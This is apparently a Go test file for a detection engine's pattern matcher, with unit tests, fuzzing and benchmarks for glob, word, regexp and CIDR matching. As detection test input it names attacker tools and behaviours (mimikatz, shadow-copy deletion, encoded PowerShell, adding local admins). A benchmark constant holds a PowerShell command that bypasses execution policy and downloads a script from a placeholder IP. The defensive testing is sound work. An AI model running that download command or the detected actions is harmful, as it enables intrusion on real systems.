package eval_test

import (
	"fmt"
	"math/rand/v2"
	"regexp"
	"strings"
	"testing"

	"goshawk/event"
	"goshawk/plan"
	"goshawk/plan/eval"
)

// pattern reads what plan.Pattern.String writes, or takes the source of an expression or network.
func pattern(t testing.TB, op plan.MatchOp, text string) plan.Pattern {
	t.Helper()
	if op == plan.Regexp || op == plan.CIDR {
		return plan.Pattern{Source: text}
	}
	p, err := plan.ParsePattern(text)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func matcher(t testing.TB, op plan.MatchOp, all, fold bool, patterns ...string) *eval.Matcher {
	t.Helper()
	list := make([]plan.Pattern, len(patterns))
	for i, text := range patterns {
		list[i] = pattern(t, op, text)
	}
	m, err := eval.NewMatcher(op, list, all, fold)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestMatch(t *testing.T) {
	for _, test := range []struct {
		op      plan.MatchOp
		fold    bool
		pattern string
		yes, no []string
	}{
		{plan.Equals, false, `cmd.exe`, []string{"cmd.exe"}, []string{"CMD.exe", "cmd.exe ", ""}},
		{plan.Equals, true, `cmd.exe`, []string{"cmd.exe", "CMD.EXE"}, []string{"cmdxexe"}},
		{plan.Equals, false, ``, []string{""}, []string{" "}},
		{plan.Equals, true, `k`, []string{"K", "\u212a"}, []string{"ķ"}},
		{plan.Equals, true, `straße`, []string{"STRAßE", "STRAẞE"}, []string{"STRASSE"}},
		{plan.Equals, true, `σας`, []string{"ΣΑΣ", "σασ"}, nil},
		{plan.Equals, false, `*`, []string{"", "a", "\n"}, nil},
		{plan.Equals, false, `?`, []string{"a", "é", "\n", "\xff", "\U0001f600"}, []string{"", "ab", "e\u0301"}},
		{plan.Equals, false, `??`, []string{"éa", "\xff\xfe"}, []string{"é"}},
		{plan.Equals, false, `a*b`, []string{"ab", "a\nb", "abab"}, []string{"ba", "a", "abc"}},
		{plan.Equals, false, `a*a`, []string{"aa", "aba"}, []string{"a"}},
		{plan.Equals, false, `ab*ba`, []string{"abba", "abxba"}, []string{"aba"}},
		{plan.Equals, false, `*ab*ba*`, []string{"abba", "xabbax"}, []string{"aba"}},
		{plan.Equals, false, `a?c*e?`, []string{"abcdef", "aécxeé"}, []string{"abcdeff"}},
		{plan.Equals, false, `**a**`, []string{"a", "xax"}, []string{"b", ""}},
		{plan.Equals, false, `*?`, []string{"a", "ab"}, []string{""}},
		{plan.Equals, false, `?*`, []string{"a", "ab"}, []string{""}},
		{plan.Equals, false, `*.ex?`, []string{"a.exe", ".exé"}, []string{"a.ex", "a.exee"}},
		{plan.Equals, false, `x[-]y`, []string{"x-y", "x/y", "x–y", "x—y", "x―y"}, []string{"xy", "x_y", "x\\y", "x--y"}},
		{plan.Equals, false, `C:\\*\\\*x`, []string{`C:\a\*x`}, []string{`C:\a\bx`}},
		{plan.Prefix, false, `ab`, []string{"ab", "abc"}, []string{"a", "cab"}},
		{plan.Prefix, false, `a*c`, []string{"ac", "abcd", "abdc!"}, []string{"bac"}},
		{plan.Prefix, false, ``, []string{"", "x"}, nil},
		{plan.Suffix, true, `\\AT.exe`, []string{`C:\at.exe`, `\at.exe`}, []string{`C:\cat.exe`, `at.exe`}},
		{plan.Suffix, false, `a*`, []string{"a", "xaxx"}, []string{"x"}},
		{plan.Suffix, false, `?a`, []string{"ba", "xéa"}, []string{"a"}},
		{plan.Contains, false, `b`, []string{"b", "abc"}, []string{"", "a"}},
		{plan.Contains, false, `a?c`, []string{"xabcx"}, []string{"ac"}},
		{plan.Contains, true, ` [-]enc `, []string{"x -ENC y", "x /enc y", "x –enc y"}, []string{"x enc y"}},
		{plan.Contains, false, ``, []string{"", "a"}, nil},
		{plan.Contains, false, `aab`, []string{"aaab"}, []string{"aab"[:2]}},
		{plan.Contains, false, `?ab`, []string{"aaab", "xxab"}, []string{"ab"}},
		{plan.Word, true, `cmd`, []string{`C:\Windows\System32\cmd.exe`, "cmd", "CMD_exe"}, []string{"cmdlet", "xcmd", "cmd1"}},
		{plan.Word, false, `exe`, []string{"cmd_exe"}, []string{"exec"}},
		{plan.Word, true, `explorer`, nil, []string{"KustoExplorerQueryRun"}},
		{plan.Word, true, `delete shadows`, []string{"delete shadows /all"}, []string{"delete  shadows", "delete shadowstorage"}},
		{plan.Word, true, `at`, []string{"at", "cat at"}, []string{"/usr/bin/cat"}},
		{plan.Word, true, `c1db`, []string{"ad67d136-c1db-4f9f"}, nil},
		{plan.Word, true, `-enc`, []string{"powershell-enc x", "a -enc"}, []string{"-encoded"}},
		{plan.Word, true, `.exe`, []string{"cmd.exe"}, []string{"cmd.exec"}},
		{plan.Word, true, `é`, []string{"a é b", "É"}, []string{"né"}},
		{plan.Word, false, `a`, []string{"aa a"}, []string{"aa"}},
		{plan.Word, true, `run*32`, []string{"x rundll32.exe", "run 1 32"}, []string{"rundll321", "xrun32"}},
		{plan.Word, true, `*ell`, []string{"powershell x"}, []string{"shells"}},
		{plan.Regexp, false, `id=\d{3,}`, []string{"x id=1234"}, []string{"x id=12", "x ID=1234"}},
		{plan.Regexp, true, `id=\d{3,}`, []string{"x ID=1234"}, nil},
		{plan.Regexp, false, `(?i)abc|\d`, []string{"xABC", "5"}, []string{"x"}},
		{plan.Regexp, false, `^a.c$`, []string{"abc", "a\xffc"}, []string{"a\nc", "xabc"}},
		{plan.Regexp, true, `straße`, []string{"STRAẞE"}, nil},
		{plan.CIDR, false, `10.0.0.0/8`, []string{"10.1.2.3", "10.255.255.255", "::ffff:10.0.0.1"}, []string{"11.0.0.1", "110.0.0.1", "10.x", "", "10.0.0.1:80", "10.0.0.01", " 10.0.0.1", "10.0.0.0/8"}},
		{plan.CIDR, false, `172.16.0.0/12`, []string{"172.31.255.1"}, []string{"172.32.0.1", "172.15.0.1"}},
		{plan.CIDR, false, `192.0.2.7`, []string{"192.0.2.7"}, []string{"192.0.2.1"}},
		{plan.CIDR, true, `0.0.0.0/0`, []string{"8.8.8.8"}, []string{"::1", "localhost"}},
		{plan.CIDR, false, `fe80::/10`, []string{"fe80::1", "FEBF:0:0:0:0:0:0:1", "fe80::1%12"}, []string{"fec0::1", "10.0.0.1", "[fe80::1]"}},
	} {
		m := matcher(t, test.op, false, test.fold, test.pattern)
		for _, expect := range []struct {
			want  bool
			texts []string
		}{{true, test.yes}, {false, test.no}} {
			for _, text := range expect.texts {
				raw, folded := []byte(text), event.AppendFold(nil, text)
				if got := m.Match(raw, folded); got != expect.want {
					t.Errorf("%s %q fold %v on %q: %v, want %v", test.op, test.pattern, test.fold, text, got, expect.want)
				}
				if _, _, got := m.Find(0, raw, folded); got != expect.want {
					t.Errorf("%s %q fold %v finds in %q: %v, want %v", test.op, test.pattern, test.fold, text, got, expect.want)
				}
			}
		}
	}
}

func TestMatchAll(t *testing.T) {
	m := matcher(t, plan.Contains, true, true, "group", "/add", "admin")
	for text, want := range map[string]bool{"net localgroup Administrators x /ADD": true, "net localgroup /add": false} {
		if got := m.Match([]byte(text), event.AppendFold(nil, text)); got != want {
			t.Errorf("%q: %v", text, got)
		}
	}
}

func TestFind(t *testing.T) {
	for _, test := range []struct {
		op            plan.MatchOp
		fold          bool
		pattern, text string
		want          string
	}{
		{plan.Contains, true, "ENC", "x -enc y", "enc"},
		{plan.Contains, true, "kilo", "5 \u212aILO x", "\u212aILO"},
		{plan.Suffix, false, `\\at.exe`, `C:\at.exe`, `\at.exe`},
		{plan.Suffix, false, `a*c`, `xxabbc`, `abbc`},
		{plan.Prefix, false, "ab", "abc", "ab"},
		{plan.Equals, false, "*b*", "abc", "b"},
		{plan.Equals, false, "a?c", "abc", "abc"},
		{plan.Word, true, "cmd", "xcmd CMD.exe", "CMD"},
		{plan.Word, true, "r?n", "xrun a ran.", "ran"},
		{plan.Regexp, false, `\d+`, "id=42", "42"},
		{plan.CIDR, false, "10.0.0.0/8", "10.0.0.1", "10.0.0.1"},
	} {
		m := matcher(t, test.op, false, test.fold, test.pattern)
		from, to, ok := m.Find(0, []byte(test.text), event.AppendFold(nil, test.text))
		if !ok || test.text[from:to] != test.want {
			t.Errorf("%s %q in %q: %d to %d, %v, want %q", test.op, test.pattern, test.text, from, to, ok, test.want)
		}
	}
}

func TestMatcherRefuses(t *testing.T) {
	for _, test := range []struct {
		op     plan.MatchOp
		source string
	}{{plan.Regexp, "a("}, {plan.Regexp, "a)(b"}, {plan.CIDR, "intranet"}, {plan.CIDR, "10.0.0.0/33"}, {plan.CIDR, ""}} {
		if _, err := eval.NewMatcher(test.op, []plan.Pattern{{Source: test.source}}, false, false); err == nil {
			t.Errorf("%s %q is accepted", test.op, test.source)
		}
	}
}

// alphabet makes coincidences likely.
var alphabet = []string{"a", "b", "A", "-", "/", "é", "É", "\u2014", "\xff", "\n", "k", "\u212a"}

func randomText(r *rand.Rand, longest int) string {
	var b strings.Builder
	for range r.IntN(longest + 1) {
		b.WriteString(alphabet[r.IntN(len(alphabet))])
	}
	return b.String()
}

func randomPattern(r *rand.Rand) plan.Pattern {
	var p plan.Pattern
	for range r.IntN(6) {
		piece := plan.Piece{Kind: plan.PieceKind(r.IntN(4))}
		if piece.Kind == plan.Run {
			piece.Text = strings.ReplaceAll(randomText(r, 3), "\xff", "")
		}
		p.Pieces = append(p.Pieces, piece)
	}
	return p
}

// translate spells a pattern as a regular expression, as plainly as can be.
func translate(op plan.MatchOp, p plan.Pattern, fold bool) *regexp.Regexp {
	var b strings.Builder
	b.WriteString("(?s")
	if fold {
		b.WriteString("i")
	}
	b.WriteString(")")
	if op == plan.Equals || op == plan.Prefix {
		b.WriteString(`\A`)
	}
	for _, piece := range p.Pieces {
		switch piece.Kind {
		case plan.Run:
			b.WriteString(regexp.QuoteMeta(piece.Text))
		case plan.Many:
			b.WriteString(".*")
		case plan.One:
			b.WriteString(".")
		case plan.AnyDash:
			b.WriteString(`[-/\x{2013}\x{2014}\x{2015}]`)
		}
	}
	if op == plan.Equals || op == plan.Suffix {
		b.WriteString(`\z`)
	}
	return regexp.MustCompile(b.String())
}

// TestGlobIsItsExpression compares text patterns with their translation into regular expressions.
func TestGlobIsItsExpression(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	rounds := 60_000
	if testing.Short() {
		rounds = 5_000
	}
	for range rounds {
		p, op, fold := randomPattern(r), plan.MatchOp(r.IntN(4)), r.IntN(2) == 0
		m, err := eval.NewMatcher(op, []plan.Pattern{p}, false, fold)
		if err != nil {
			t.Fatal(err)
		}
		re := translate(op, p, fold)
		for range 8 {
			text := randomText(r, 8)
			raw, folded := []byte(text), event.AppendFold(nil, text)
			if got, want := m.Match(raw, folded), re.MatchString(text); got != want {
				t.Fatalf("%s %q fold %v on %q: %v, and %s says %v", op, p, fold, text, got, re, want)
			}
		}
	}
}

// TestFoldIsSymmetric checks that it makes no difference which of pattern and text is folded beforehand.
func TestFoldIsSymmetric(t *testing.T) {
	r := rand.New(rand.NewPCG(3, 4))
	for range 20_000 {
		a, b := randomText(r, 5), randomText(r, 5)
		meets := func(p, text string) bool {
			m, err := eval.NewMatcher(plan.Equals, []plan.Pattern{plan.Plain(p)}, false, true)
			if err != nil {
				t.Fatal(err)
			}
			return m.Match([]byte(text), event.AppendFold(nil, text))
		}
		want := meets(a, b)
		if meets(b, a) != want || meets(event.Fold(a), b) != want || meets(a, event.Fold(b)) != want {
			t.Fatalf("%q and %q fold in one direction only", a, b)
		}
	}
}

// TestManyPatternsAreEachPattern compares long lists, which go through an index, with their patterns one by one.
func TestManyPatternsAreEachPattern(t *testing.T) {
	r := rand.New(rand.NewPCG(5, 6))
	for range 2_000 {
		op, fold := plan.MatchOp(r.IntN(5)), r.IntN(2) == 0
		patterns := make([]plan.Pattern, 5+r.IntN(30))
		for i := range patterns {
			patterns[i] = plan.Plain(randomText(r, 5))
			if r.IntN(8) == 0 {
				patterns[i] = randomPattern(r)
			}
		}
		m, err := eval.NewMatcher(op, patterns, false, fold)
		if err != nil {
			continue // a word with wildcards that is no UTF-8
		}
		for range 20 {
			text := randomText(r, 10)
			raw, folded := []byte(text), event.AppendFold(nil, text)
			any := false
			for i := range patterns {
				any = any || m.MatchOne(i, raw, folded)
			}
			first := m.First(raw, folded)
			if m.Match(raw, folded) != any || (first >= 0) != any || first >= 0 && !m.MatchOne(first, raw, folded) {
				t.Fatalf("%s %v fold %v on %q: first %d, any %v", op, patterns, fold, text, first, any)
			}
		}
	}
}

// TestNoBlowUp matches a pattern that makes backtracking matchers run for ever.
func TestNoBlowUp(t *testing.T) {
	m := matcher(t, plan.Equals, false, false, strings.Repeat("a*", 200)+"b")
	text := []byte(strings.Repeat("a", 100_000))
	if m.Match(text, nil) {
		t.Error("there is no b")
	}
	m = matcher(t, plan.Contains, false, false, strings.Repeat("?a", 50)+"b")
	if m.Match(text, nil) {
		t.Error("there is no b")
	}
}

func FuzzGlob(f *testing.F) {
	f.Add("a*b?[-]", "axb-/", byte(0), false)
	f.Add("*é*", "\xff\u212aÉ", byte(3), true)
	f.Fuzz(func(t *testing.T, patternText, text string, op byte, fold bool) {
		p, err := plan.ParsePattern(patternText)
		if err != nil || strings.ToValidUTF8(patternText, "") != patternText || strings.Contains(patternText, "\ufffd") || len(patternText) > 500 {
			return
		}
		kind := plan.MatchOp(op % 4)
		m, err := eval.NewMatcher(kind, []plan.Pattern{p}, false, fold)
		if err != nil {
			t.Fatal(err)
		}
		raw, folded := []byte(text), event.AppendFold(nil, text)
		got := m.Match(raw, folded)
		if want := translate(kind, p, fold).MatchString(text); got != want {
			t.Fatalf("%s %q on %q: %v, want %v", kind, patternText, text, got, want)
		}
		from, to, ok := m.Find(0, raw, folded)
		if ok != got || from < 0 || to < from || to > len(text) {
			t.Fatalf("%s %q finds in %q: %d to %d, %v", kind, patternText, text, from, to, ok)
		}
	})
}

const commandLine = `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -Command "Invoke-WebRequest -Uri http://203.0.113.7/a.ps1 -OutFile $env:TEMP\a.ps1"`

func BenchmarkMatcher(b *testing.B) {
	hashes := make([]string, 4000)
	for i := range hashes {
		hashes[i] = fmt.Sprintf("MD5=%032x", i*7919)
	}
	raw, folded := []byte(commandLine), event.AppendFold(nil, commandLine)
	for _, bench := range []struct {
		name     string
		op       plan.MatchOp
		all      bool
		patterns []string
	}{
		{"suffix", plan.Suffix, false, []string{`\\at.exe`}},
		{"contains", plan.Contains, false, []string{"mimikatz"}},
		{"contains 4000", plan.Contains, false, hashes},
		{"equals 4000", plan.Equals, false, hashes},
		{"contains all 3", plan.Contains, true, []string{"powershell", "invoke-", "-outfile"}},
		{"glob", plan.Contains, false, []string{"-command*downloadstring*("}},
		{"word", plan.Word, false, []string{"web"}},
		{"regexp with a literal", plan.Regexp, false, []string{`(?i)downloadstring\s*\(`}},
		{"regexp without", plan.Regexp, false, []string{`[0-9]{1,3}(\.[0-9]{1,3}){4}`}},
	} {
		b.Run(bench.name, func(b *testing.B) {
			m := matcher(b, bench.op, bench.all, true, bench.patterns...)
			b.ReportAllocs()
			for b.Loop() {
				m.Match(raw, folded)
			}
		})
	}
}
